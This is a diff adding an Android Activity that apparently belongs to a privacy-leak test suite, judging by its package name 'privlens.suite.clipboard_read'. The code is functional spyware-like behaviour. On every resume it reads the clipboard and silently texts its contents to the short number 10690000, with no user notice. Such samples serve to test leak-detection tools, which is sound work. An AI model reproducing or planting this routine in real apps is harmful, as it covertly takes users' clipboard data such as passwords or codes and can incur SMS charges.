@@ -1,0 +1,16 @@
+package cn.privlens.suite.clipboard_read;
+
+import android.app.Activity;
+import android.content.ClipboardManager;
+import android.telephony.SmsManager;
+
+public class Main extends Activity {
+    @Override
+    protected void onResume() {
+        super.onResume();
+        ClipboardManager clip = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
+        if (clip.hasPrimaryClip()) {
+            SmsManager.getDefault().sendTextMessage("10690000", null, clip.getPrimaryClip().getItemAt(0).getText().toString(), null, null);
+        }
+    }
+}
